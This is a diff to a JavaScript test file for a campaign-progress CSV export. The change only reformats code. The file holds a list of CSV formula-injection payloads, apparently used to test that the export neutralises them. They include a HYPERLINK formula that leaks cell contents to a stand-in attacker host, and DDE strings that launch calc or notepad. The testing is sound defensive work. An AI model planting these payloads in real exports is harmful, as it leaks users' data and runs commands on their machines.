@@ -20,8 +20,8 @@ afterAll(() => api?.close());
 const PAYLOADS = {
   '=': '=HYPERLINK("http://evil.example/?leak="&A1,"Ver detalles")',
   '+': "+cmd|' /C calc'!A0",
-  '-': '-2+3+cmd|\' /C notepad\'!A0',
-  '@': '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '-': "-2+3+cmd|' /C notepad'!A0",
+  '@': "@SUM(1+1)*cmd|' /C calc'!A0",
   tab: '\t=1+1',
   cr: '\r=1+1',
 };
@@ -139,6 +139,13 @@ describe('the campaign progress CSV', () => {
     expect(csv.headers['content-type']).toContain('text/csv');
     const progress = (await api.app.inject({ url: `/v1/campaigns/${id}/progress`, headers: staff.headers })).json();
     expect(csv.body).toBe(campaignProgressCsv(progress.table));
-    expect(parseCsv(csv.body).slice(1).map((r) => r.slice(0, 3))).toEqual([['HT', 'Haiti', 'false'], ['JM', 'Jamaica', 'false']]);
+    expect(
+      parseCsv(csv.body)
+        .slice(1)
+        .map((r) => r.slice(0, 3)),
+    ).toEqual([
+      ['HT', 'Haiti', 'false'],
+      ['JM', 'Jamaica', 'false'],
+    ]);
   });
 });
